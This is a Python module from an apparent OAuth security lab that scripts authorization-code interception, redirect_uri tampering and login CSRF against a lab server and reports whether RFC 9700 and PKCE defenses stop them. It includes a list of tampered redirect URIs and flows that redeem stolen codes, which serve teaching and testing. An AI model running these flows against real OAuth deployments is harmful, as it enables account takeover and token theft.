"""Attacks on the way back from the authorization server: a code intercepted on the device
(RFC 9700 §2.1.1, RFC 7636 §1), a tampered redirect URI (§4.1.3, §4.11.2), and CSRF on the
redirect URI (§4.7.1)."""

from __future__ import annotations

from urllib.parse import urljoin, urlsplit

import httpx

from tokenpath.lab.attacks.flows import authorize, with_query
from tokenpath.lab.attacks.report import Outcome
from tokenpath.lab.attacks.run import ATTACKER, VICTIM_BROWSER, Run

__all__ = ["code_interception", "redirect_csrf", "redirect_uri_tampering"]


async def code_interception(run: Run, mode: str) -> tuple[Outcome, str]:
    target, actors = run.target, run.actors
    pkce = mode == "pkce"
    client_id = target.native_client_id if pkce else actors.insecure_native_id
    secret = None if pkce else actors.insecure_native_secret
    run.step(
        "The real app starts a sign-in "
        + ("with a PKCE challenge" if pkce else "without PKCE (its 'secret' is baked into it)")
        + "; its redirect goes to a loopback port the malicious app already holds."
    )
    redirect = run.native_redirect(target.attacker_url)
    code = await run.alice(
        run.client(VICTIM_BROWSER), client_id=client_id, redirect_uri=redirect, pkce=pkce,
        follow=True,
    )  # fmt: skip
    caught = await run.loot(f"callback:{code.state}")
    if not caught:
        return "stopped", "the code never reached the attacker's listener"
    run.step("The malicious app redeems the code it caught, as the app would.")
    stolen = caught[-1]["code"]
    form = {"grant_type": "authorization_code", "code": stolen, "redirect_uri": redirect}
    attacker = run.client(ATTACKER)
    url = f"{target.issuer}/token"
    if secret is None:
        tokens = await attacker.post(url, data={**form, "client_id": client_id})
    else:
        tokens = await attacker.post(url, data=form, auth=(client_id, secret))
    if tokens.status_code == 200:
        me = await run.api_me(attacker, tokens.json()["access_token"])
        return "succeeded", (
            "Without PKCE the code is all it takes, and a secret shipped inside an app is no "
            f"secret (RFC 8252 §8.5): the attacker reads Alice's data ({me.status_code})."
        )
    return "stopped", (
        f"The server answered {tokens.json().get('error')}: the code is bound to the PKCE "
        "challenge of the real app, whose verifier never left it (RFC 7636 §4.6)."
    )


def _tampered(run: Run) -> list[str]:
    registered = f"{run.target.webapp_url}/callback"
    attacker = run.target.attacker_url
    host = urlsplit(run.target.webapp_url)
    return [
        f"{attacker}/callback",
        f"{registered}/../../evil",
        f"{registered}?next={attacker}/callback",
        f"{registered}.{urlsplit(attacker).hostname}",
        f"http://localhost:{host.port}/callback",
        f"{attacker}/callback#{registered}",
        run.native_redirect(attacker),
    ]


async def redirect_uri_tampering(run: Run, mode: str) -> tuple[Outcome, str]:
    target = run.target
    browser = run.client(VICTIM_BROWSER)
    run.step("Alice is signed in at the authorization server (as after any earlier sign-in).")
    await run.alice(
        browser, client_id=target.webapp_client_id, redirect_uri=f"{target.webapp_url}/callback"
    )
    run.step("The attacker sends her sign-in links for the web app with other redirect URIs.")
    redirected: list[str] = []
    for redirect_uri in _tampered(run):
        url = with_query(
            f"{target.issuer}/authorize",
            {
                "response_type": "code",
                "client_id": target.webapp_client_id,
                "redirect_uri": redirect_uri,
                "scope": "notes:read",
                "state": "x",
                "code_challenge": "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM",
                "code_challenge_method": "S256",
            },
        )
        response = await browser.get(url)
        if response.is_redirect:
            redirected.append(response.headers["location"])
    if not redirected:
        return "stopped", (
            "Every tampered redirect_uri got an error page from the server, never a redirect: "
            "redirect URIs are compared as exact strings (RFC 9700 §4.1.3), and an unregistered "
            "one is never redirected to (§4.11.2)."
        )
    return "succeeded", f"the server redirected to {redirected}"


async def _web_client(run: Run, mode: str) -> tuple[str, str]:
    """(the client's base URL, the path that starts its sign-in) for a CSRF mode."""
    if mode == "state":
        return run.target.webapp_url, "/login"
    name = "no-state" if mode == "no-state" else "no-state-pkce"
    return run.target.lab_path(f"/insecure/{name}"), "/login"


async def _mallorys_callback(run: Run, base: str, start: str) -> str:
    """The attacker signs in on the client with her own account and stops at the redirect."""
    attacker = run.client(ATTACKER)
    response = await attacker.get(f"{base}{start}")
    location = urljoin(str(response.url), response.headers["location"])
    return await authorize(
        attacker,
        location,
        username=run.actors.mallory_username,
        password=run.actors.mallory_password,
        stop_at=f"{base}/callback",
    )


async def _visit(browser: httpx.AsyncClient, url: str) -> httpx.Response:
    """Open the attacker's page and follow where it sends the browser (``Refresh``)."""
    page = await browser.get(url)
    refresh = page.headers.get("refresh", "")
    if "url=" not in refresh:
        return page
    answer = await browser.get(refresh.split("url=", 1)[1])
    while answer.is_redirect and answer.headers["location"].startswith("/"):
        answer = await browser.get(urljoin(str(answer.url), answer.headers["location"]))
    return answer


async def redirect_csrf(run: Run, mode: str) -> tuple[Outcome, str]:
    target, actors = run.target, run.actors
    base, start = await _web_client(run, mode)
    run.step("Mallory starts a sign-in on the client with her own account and keeps the code.")
    callback = await _mallorys_callback(run, base, start)
    run.step("Alice, signed in to nothing there, opens Mallory's page; it sends her browser on.")
    browser = run.client(VICTIM_BROWSER)
    trap = with_query(f"{target.attacker_url}/csrf", {"to": callback})
    landed = await _visit(browser, trap)
    run.step("The client's redirect URI receives Mallory's code in Alice's browser.")
    if mode == "state":
        signed_in = landed.status_code == 200 and actors.mallory_sub in landed.text
    else:
        whoami = await browser.get(f"{base}/whoami")
        signed_in = whoami.json().get("sub") == actors.mallory_sub
    if signed_in:
        return "succeeded", (
            "The client had no way to know the response was not for Alice's browser: she is now "
            "signed in as Mallory, and what she stores goes to Mallory's account."
        )
    if mode == "state":
        why = "the response's state is not one this browser's session started (RFC 9700 §4.7.1)"
    else:
        why = (
            "the client redeemed the code with this browser's PKCE verifier (none), and the "
            "server refused: the code was bound to Mallory's challenge (RFC 9700 §4.7.1, §2.1.1)"
        )
    return "stopped", f"The client refused the foreign code: {why}."
